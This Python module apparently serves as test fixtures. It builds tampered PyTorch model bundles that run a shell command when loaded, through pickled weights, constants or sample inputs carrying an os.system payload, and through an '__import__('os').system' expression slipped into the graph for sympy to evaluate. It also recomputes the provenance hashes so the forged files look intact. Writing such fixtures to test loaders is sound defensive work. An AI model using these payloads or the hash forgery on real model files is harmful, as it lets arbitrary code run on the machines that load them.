"""Bundles that were tampered with: each would run a command where the file is loaded blindly.

The hashes that lie beside the files are changed too, so that they agree with each other.
"""

import hashlib
import io
import json
import os
import pickle
import re
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

import torch

PROVENANCE = "provenance.json"
WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
CONSTANTS_CONFIG = "data/constants/model_constants_config.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"
GRAPH = "models/model.json"
Entries = dict[str, bytes]
"""of an archive, by name below its folder"""


class Malice:
    """Runs a shell command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def list_files_anew(folder: Path) -> None:
    """Let the provenance list the files of a bundle as they are now."""
    path = folder / PROVENANCE
    names = sorted(file.name for file in folder.iterdir() if file.name != PROVENANCE)
    digests = {name: hashlib.sha256((folder / name).read_bytes()).hexdigest() for name in names}
    path.write_text(json.dumps({**json.loads(path.read_text()), "files": digests}))


def tamper_program(folder: Path, command: str, how: Callable[[Entries, str], None]) -> None:
    """Let ``how`` change the entries of the host's program so that it runs ``command``."""
    path = folder / "policy-host.pt2"
    with ZipFile(path) as archive:
        entries = {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}
    how(entries, command)
    with ZipFile(path, "w") as archive:
        for name, content in entries.items():
            archive.writestr(f"{path.stem}/{name}", content)
    list_files_anew(folder)


def pickled_weight(entries: Entries, command: str) -> None:
    """Mark a weight as pickled."""
    weights = json.loads(entries[WEIGHTS_CONFIG])
    weights["config"]["weights.0"] |= {"use_pickle": True, "path_name": "weight_0"}
    entries[WEIGHTS_CONFIG] = json.dumps(weights).encode()
    entries["data/weights/weight_0"] = torch_pickle(command)


def pickled_constant(entries: Entries, command: str) -> None:
    """Add a constant that is an object."""
    payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
    constants = {"config": {"more": {**payload, "tensor_meta": None}}}
    entries[CONSTANTS_CONFIG] = json.dumps(constants).encode()
    entries["data/constants/opaque_obj_0"] = pickle.dumps(Malice(command))


def pickled_inputs(entries: Entries, command: str) -> None:
    """Replace the sample inputs."""
    entries[SAMPLE_INPUTS] = torch_pickle(command)


def evaluated_size(entries: Entries, command: str) -> None:
    """Replace the name of a size by an expression; sympy evaluates it as Python."""
    graph = entries[GRAPH].decode()
    name = f"__import__('os').system({command!r})"
    pattern = r'"expr_str": "Symbol\([^)]*\)"'
    changed = re.sub(pattern, lambda _: f'"expr_str": {json.dumps(name)}', graph)
    assert changed != graph
    entries[GRAPH] = changed.encode()


RUNNING_A_COMMAND = [pickled_weight, pickled_constant, pickled_inputs, evaluated_size]


def torch_pickle(command: str) -> bytes:
    """Return what torch.load runs the command for."""
    buffer = io.BytesIO()
    torch.save(Malice(command), buffer)
    return buffer.getvalue()
